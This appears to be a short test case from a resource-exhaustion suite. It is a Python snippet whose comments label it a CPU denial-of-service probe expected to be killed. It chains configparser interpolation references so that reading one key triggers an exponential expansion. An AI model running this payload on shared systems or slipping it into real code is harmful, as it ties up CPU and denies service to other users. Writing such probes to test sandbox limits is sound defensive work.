# id: configparser-redos
# class: dos-cpu
# expect: killed
# technique: configparser interpolation expansion
# source: own
# verified: yes (still running after 4s)
import configparser
c = configparser.ConfigParser()
c["s"] = {"k0": "x" * 10}
for i in range(1, 10):
    c["s"]["k%d" % i] = "%%(k%d)s" % (i - 1) * 30
c["s"]["k9"]
